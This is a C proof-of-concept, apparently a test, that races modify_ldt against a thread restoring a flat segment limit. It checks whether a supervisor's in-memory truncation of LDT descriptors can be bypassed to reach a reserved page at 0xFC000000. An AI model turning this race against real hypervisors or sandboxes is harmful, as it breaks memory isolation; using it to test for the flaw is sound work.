/* ldt_desc_race: modify_ldt(1) of a flat LDT entry while another thread keeps putting the flat limit
 * back into the struct the supervisor truncates in guest memory before the kernel reads it. Prints HOLE
 * REACHED if an untruncated LDT entry reaches the page it maps at 0xFC000000. */
#define _GNU_SOURCE
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <asm/ldt.h>

static struct user_desc d;
static volatile int stop;
static void *flipper(void *a) {
    (void)a;
    volatile unsigned *lim = &d.limit;
    while (!stop) { *lim = 0xFFFFF; }   /* the supervisor writes its truncated limit; we put the flat one back */
    return NULL;
}
int main(void) {
    unsigned *hole = mmap((void *)0xFC000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    if (hole == MAP_FAILED) { perror("mmap"); return 1; }
    hole[0] = 0xC0FFEE;
    memset(&d, 0, sizeof d);
    d.entry_number = 0; d.base_addr = 0; d.limit = 0xFFFFF; d.seg_32bit = 1; d.limit_in_pages = 1; d.useable = 1;
    pthread_t th;
    pthread_create(&th, NULL, flipper, NULL);
    for (int i = 0; i < 5000; i++) {
        d.limit = 0xFFFFF;
        if (syscall(SYS_modify_ldt, 1, &d, sizeof d) < 0) continue;
        unsigned lim = 0, ok = 0;
        __asm__ volatile("mov $0x7, %%ecx\n\tlsl %%ecx, %0\n\tsetz %b1" : "=r"(lim), "=q"(ok) : : "ecx");
        if (ok && lim == 0xFFFFFFFFu) {
            unsigned v;
            __asm__ volatile("mov $0x7, %%eax\n\tmov %%eax, %%fs\n\tmov %%fs:0xFC000000, %%eax\n\tmov %%eax, %0"
                             : "=r"(v) : : "eax", "memory");
            printf("attempt %d: LDT 0 limit %#x; read %#x through 0x7:0xFC000000: HOLE REACHED\n", i, lim, v);
            stop = 1;
            return 0;
        }
    }
    stop = 1;
    printf("no hole\n");
    return 0;
}
